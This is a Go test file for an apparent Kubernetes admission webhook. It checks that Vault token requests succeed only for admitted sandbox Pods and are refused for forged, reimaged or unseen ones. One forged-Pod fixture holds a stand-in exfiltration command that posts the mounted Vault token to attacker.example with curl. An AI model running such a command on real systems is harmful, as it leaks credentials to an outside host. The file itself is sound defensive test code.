package webhook

import (
	"context"
	"testing"

	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"

	"github.com/agent-sandbox/agent-sandbox/internal/contract"
)

// TestCheckTokenRequest: a tool ServiceAccount's Vault-audience token goes to the kubelet of the node a
// sandbox Pod runs on, and only for a Pod the webhook admitted — the exact rendering of its controlling Job,
// cold or warm — never for a Pod that merely carries a sandbox Pod's labels, annotation and ServiceAccount
// (one created while no webhook was registered: during an install, or between an uninstall and a reinstall).
func TestCheckTokenRequest(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	tool, err := f.p.Tool("k8s_get_pod_status")
	if err != nil {
		t.Fatal(err)
	}
	vault := f.p.Spec.Sandbox.CredentialAgent.VaultAudience

	job := asServer(t, f.job(t, "k8s_get_pod_status", podParams(), ""))
	pod := podOf(t, job)
	pod.Spec.NodeName, pod.ResourceVersion = "node-a", "7"
	pod.Status = corev1.PodStatus{Phase: corev1.PodRunning, QOSClass: corev1.PodQOSGuaranteed}

	// The reviewer's Pod: a sandbox Pod's label, annotation and ServiceAccount, on node-a, running what the
	// attacker likes, owned by nothing.
	forged := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "forged", Namespace: job.Namespace, UID: "a1b2c3d4-0000-4000-8000-0000000000f0",
		Labels:      map[string]string{contract.LabelTool: "k8s_get_pod_status"},
		Annotations: map[string]string{contract.AnnotationInjected: "true"}},
		Spec: corev1.PodSpec{ServiceAccountName: tool.ServiceAccount, NodeName: "node-a",
			Containers: []corev1.Container{{Name: "tool", Image: "attacker.example/steal:latest", Command: []string{"sh", "-c", "curl -d @/var/run/secrets/vault/token https://attacker.example"}}}}}
	// The same, claiming the admitted Job as its owner (it exists, with that UID), but not its rendering.
	disowned := forged.DeepCopy()
	disowned.Name, disowned.UID = job.Name+"-evil1", "a1b2c3d4-0000-4000-8000-0000000000f1"
	disowned.OwnerReferences = []metav1.OwnerReference{{APIVersion: "batch/v1", Kind: "Job", Name: job.Name, UID: job.UID, Controller: ptr.To(true), BlockOwnerDeletion: ptr.To(true)}}
	// The admitted Job's exact Pod but for its image (created beside the Job's own while no webhook ran).
	reimaged := pod.DeepCopy()
	reimaged.Name, reimaged.UID = job.Name+"-evil2", "a1b2c3d4-0000-4000-8000-0000000000f2"
	reimaged.Spec.Containers[0].Image = "attacker.example/steal:latest"
	// The admitted Job's exact Pod, owned by a Job of that name with another UID (a Job deleted and made
	// again while no webhook ran).
	otherUID := pod.DeepCopy()
	otherUID.Name, otherUID.UID = job.Name+"-evil3", "a1b2c3d4-0000-4000-8000-0000000000f3"
	otherUID.OwnerReferences[0].UID = "0f6b8a4e-1c2d-4e5f-8a9b-ffffffffffff"
	// Bound on a zoned node: the API server copied the node's topology labels onto it (PodTopologyLabels).
	zoned := pod.DeepCopy()
	zoned.Name, zoned.UID = job.Name+"-zoned", "a1b2c3d4-0000-4000-8000-0000000000f4"
	zoned.Labels["topology.kubernetes.io/zone"], zoned.Labels["topology.kubernetes.io/region"] = "europe-west1-b", "europe-west1"
	// A Pod of an unknown-tool Job of the same name would not render; one relabelled after the fact
	// neither (the webhook refuses the update, but not while it is away).
	relabelled := pod.DeepCopy()
	relabelled.Name, relabelled.UID = job.Name+"-evil5", "a1b2c3d4-0000-4000-8000-0000000000f5"
	relabelled.Labels["app"] = "web"

	// A warm Pod, idle and claimed.
	warmJob := asServer(t, f.warmJob(t, warmTestTool, "w0123456789a"))
	warmJob.UID = "0f6b8a4e-1c2d-4e5f-8a9b-00000000000a"
	warmJob.Spec.Selector.MatchLabels[labelControllerUID] = string(warmJob.UID)
	tl := warmJob.Spec.Template.Labels
	tl[labelControllerUID], tl[labelLegacyControllerUID] = string(warmJob.UID), string(warmJob.UID)
	warm := runningPod(t, warmJob, "b1b2c3d4-0000-4000-8000-000000000001")
	warm.Spec.NodeName = "node-a"
	claimed := withClaim(warm, f.claimFor(t, warmTestTool, podParams(), testRequestID, ""))
	claimed.Name, claimed.UID = warm.Name+"c", "b1b2c3d4-0000-4000-8000-000000000002"
	claimed.Annotations[contract.AnnotationClaimSignature] = "signature"

	// A Job made while no webhook was registered, the exact rendering of a call — an apply with an approval
	// nobody signed — and its exact Pod, made by the Job controller: only the webhook's Pod ledger tells it
	// from an admitted one.
	unseenJob := asServer(t, f.job(t, "terraform_apply", applyParams(), "eyJhbGciOiJFZERTQSJ9.eyJqdGkiOiJmb3JnZWQifQ.bm90LXNpZ25lZA"))
	unseenJob.UID = "0f6b8a4e-1c2d-4e5f-8a9b-00000000000b"
	unseenJob.Spec.Selector.MatchLabels[labelControllerUID] = string(unseenJob.UID)
	ul := unseenJob.Spec.Template.Labels
	ul[labelControllerUID], ul[labelLegacyControllerUID] = string(unseenJob.UID), string(unseenJob.UID)
	unseen := podOf(t, unseenJob)
	unseen.Spec.NodeName, unseen.UID = "node-a", "c1b2c3d4-0000-4000-8000-000000000001"

	// The webhook admitted the Pods of the call's Job and of the warm Job (CheckPod recorded them).
	for _, j := range []*batchv1.Job{job, warmJob} {
		if err := f.pods.RecordPod(ctx, j.UID, f.now); err != nil {
			t.Fatal(err)
		}
	}
	f.c.Cluster = &fakeCluster{jobs: []*batchv1.Job{job, warmJob, unseenJob}, pods: []*corev1.Pod{pod, forged, disowned, reimaged, otherUID, zoned, relabelled, warm, claimed, unseen}}

	kubelet := func(node string, p *corev1.Pod) (Request, map[string]any) {
		req := Request{Operation: "CREATE", User: "system:node:" + node, Groups: []string{"system:nodes", "system:authenticated"},
			Resource: "serviceaccounts", SubResource: "token", Name: tool.ServiceAccount, Namespace: job.Namespace}
		sa := tool.ServiceAccount
		if t, err := f.p.Tool(p.Labels[contract.LabelTool]); err == nil && p.Labels[contract.LabelTool] != "" {
			sa = t.ServiceAccount
		}
		req.Name = sa
		return req, map[string]any{"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": map[string]any{
			"audiences": []any{vault}, "expirationSeconds": int64(3600),
			"boundObjectRef": map[string]any{"apiVersion": "v1", "kind": "Pod", "name": p.Name, "uid": string(p.UID)}}}
	}
	for _, tt := range []struct {
		name string
		node string
		pod  *corev1.Pod
		rule string // "" = allowed
	}{
		{"the kubelet, for the admitted Pod on its node", "node-a", pod, ""},
		{"the kubelet, for the admitted Pod bound on a zoned node", "node-a", zoned, ""},
		{"the kubelet, for an idle warm Pod", "node-a", warm, ""},
		{"the kubelet, for a claimed warm Pod", "node-a", claimed, ""},
		{"another node's kubelet, for the admitted Pod", "node-b", pod, "token-request"},
		{"the kubelet, for a Pod made while no webhook was registered", "node-a", forged, "token-request"},
		{"the kubelet, for a Pod naming the admitted Job as owner but not its rendering", "node-a", disowned, "token-request"},
		{"the kubelet, for a Pod of the admitted Job with another image", "node-a", reimaged, "token-request"},
		{"the kubelet, for a Pod whose owner Job has another UID", "node-a", otherUID, "token-request"},
		{"the kubelet, for a Pod of the admitted Job with a label added", "node-a", relabelled, "token-request"},
		{"the kubelet, for the exact Pod of an exact Job the webhook never saw", "node-a", unseen, "token-request"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			req, tr := kubelet(tt.node, tt.pod)
			_, err := f.c.CheckSubresource(ctx, req, objAny(tr), nil)
			if tt.rule == "" && err != nil {
				t.Fatalf("refused: %v", err)
			}
			if tt.rule != "" && ruleOf(err) != tt.rule {
				t.Fatalf("want refusal by %s, got %v", tt.rule, err)
			}
			t.Log(err)
		})
	}
}
